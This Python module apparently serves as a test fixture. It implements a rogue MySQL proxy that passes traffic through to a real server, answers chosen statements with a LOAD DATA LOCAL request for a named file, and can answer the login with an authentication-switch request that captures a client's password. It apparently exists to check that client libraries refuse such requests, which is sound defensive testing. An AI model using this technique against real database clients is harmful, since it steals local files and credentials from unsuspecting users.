"""A server in the path to the real one that asks its clients for files or passwords; everything else works."""

from __future__ import annotations

import re
import socket
import threading
from contextlib import suppress
from types import TracebackType
from typing import BinaryIO

QUERY, PREPARE, EXECUTE = 0x03, 0x16, 0x17


class HostileServer:
    """Pass everything through to the server, except one thing.

    ``when``: a statement that matches it is answered with the request for the file ``wanted``, of LOAD DATA LOCAL.
    ``plugin``: the login is answered with the request for a password by that plugin. ``got`` is all that came of it.
    """

    def __init__(self, host: str, port: int, *, when: str = "", wanted: str = "", plugin: str = "") -> None:
        self._server = (host, port)
        self._when, self._wanted, self._plugin = re.compile(when or "$^"), wanted.encode(), plugin.encode()
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._threads: list[threading.Thread] = []
        self.port = int(self._listener.getsockname()[1])
        self._prepared = False  # whether a matching statement was just prepared
        self.asked = 0
        self.got = b""
        self._start(self._accept)

    def __enter__(self) -> HostileServer:
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        with suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()
        for thread in list(self._threads):  # each ends with its client's connection
            thread.join(60)
            assert not thread.is_alive()

    def _start(self, work: object, *arguments: object) -> None:
        thread = threading.Thread(target=work, args=arguments, daemon=True)  # type: ignore[arg-type]
        self._threads.append(thread)
        thread.start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                client, _ = self._listener.accept()
                self._start(self._serve, client, socket.create_connection(self._server))

    def _serve(self, client: socket.socket, server: socket.socket) -> None:
        self._start(self._answer, server, client)
        with client, server:
            with suppress(OSError), client.makefile("rb") as packets:
                self._speak(client, server, packets)
            with suppress(OSError):
                server.shutdown(socket.SHUT_RDWR)  # wakes the thread that reads from it

    def _speak(self, client: socket.socket, server: socket.socket, packets: BinaryIO) -> None:
        login = True
        while header := packets.read(4):
            body = packets.read(int.from_bytes(header[:3], "little"))
            if request := self._wish(header, body, login):
                self.asked += 1
                client.settimeout(2)  # a client that does not understand waits for more
                client.sendall(len(request).to_bytes(3, "little") + bytes([header[3] + 1]) + request)
                # until the client leaves, or sends the empty packet at the end of a file
                while (header := packets.read(4)) and (body := packets.read(int.from_bytes(header[:3], "little"))):
                    self.got += body
                return
            login = False
            server.sendall(header + body)

    def _wish(self, header: bytes, body: bytes, login: bool) -> bytes:
        if login:
            return b"\xfe" + self._plugin + b"\0" + b"12345678901234567890\0" if self._plugin else b""
        if header[3] == 0 and body[0] in (QUERY, PREPARE) and self._when.search(body[1:].decode(errors="replace")):
            self._prepared = body[0] == PREPARE
            return b"" if self._prepared else b"\xfb" + self._wanted
        return b"\xfb" + self._wanted if header[3] == 0 and body[0] == EXECUTE and self._prepared else b""

    @staticmethod
    def _answer(server: socket.socket, client: socket.socket) -> None:
        with suppress(OSError):
            while data := server.recv(65_536):
                client.sendall(data)
        with suppress(OSError):
            client.shutdown(socket.SHUT_WR)
